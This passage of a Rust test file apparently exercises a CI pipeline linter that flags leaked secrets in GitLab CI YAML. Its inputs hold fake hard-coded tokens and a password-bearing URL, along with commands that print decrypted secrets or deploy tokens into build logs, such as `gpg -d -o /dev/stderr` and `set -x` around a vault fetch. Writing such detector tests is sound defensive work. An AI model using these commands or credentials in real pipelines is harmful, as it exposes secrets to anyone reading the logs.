        "a:\n  image: $CI_REGISTRY_IMAGE/ci-builder:1.4.0@sha256:{digest}\n  script: [make]\nc:\n  image: alpine:3.19@sha256:{digest}\n  variables:\n    DEPLOY_TOKEN: $DEPLOY_TOKEN_VAR\n  script:\n    - helm upgrade --install web ./chart -f \"$HELM_SECRET_VALUES\"\n    - kubectl apply -f \"$KUBE_MANIFEST_FILE\"\n    - bundle exec fastlane supply --json_key \"$PLAY_JSON_KEY\"\n    - printenv | grep -E '^(CI_COMMIT_|GITLAB_USER_LOGIN)' | sort\n    - go install x.io/t@v1.2\n    - printenv | grep -E '^(CI_COMMIT_|DEPLOY_)' | sort\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["13 PL6003", "14 PL4003"].map(String::from).into();
    assert_eq!(found, want, "{diags:#?}");
}

/// A literal credential in a key other than the script or the variables (`tags`,
/// `environment: url`, `cache: key`) is reported at its own line, not at the job's name.
#[test]
fn a_credential_in_other_keys_is_reported_where_it_is_written() {
    let dir = scratch("credential-other-keys");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "deploy:\n  image: alpine:3.19{pinned}\n  script: [make]\n  tags: [docker, ghp_abcdefghijklmnopqrstuvwxyz0123456789]\n  environment:\n    name: production\n    url: https://admin:Sup3rS3cretPassw0rd@prod.example.com\n  cache:\n    key: ghp_abcdefghijklmnopqrstuvwxyz0123456780\n    paths: [x]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["4 PL4001", "7 PL4001", "9 PL4001"]
        .map(String::from)
        .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// Reviewed bypasses of the fetcher-file and allow-list rules: an output file that is
/// the log (`-o /dev/stderr`) prints the secret; a quantified group (`^(A|B)?`) matches
/// every line; under `set -x` a fetch captured by a plain assignment is traced.
#[test]
fn reviewed_bypasses_of_fetcher_files_and_allow_lists() {
    let dir = scratch("fetcher-file-bypasses");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: alpine:3.19{pinned}\n  script:\n    - gpg -d -o /dev/stderr key.gpg\n    - sops -d --output=/dev/fd/1 s.yaml\nb:\n  image: alpine:3.19{pinned}\n  variables:\n    DEPLOY_TOKEN: $DEPLOY_TOKEN_VAR\n  script:\n    - printenv | grep -E '^(CI_COMMIT_|GITLAB_)?' | sort\nc:\n  image: alpine:3.19{pinned}\n  script:\n    - set -x\n    - PW=$(vault kv get -field=pw secret/app)\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["4 PL4003", "5 PL4003", "11 PL4003", "15 PL4003"]
        .map(String::from)
        .into();
    assert_eq!(found, want, "{diags:#?}");
}
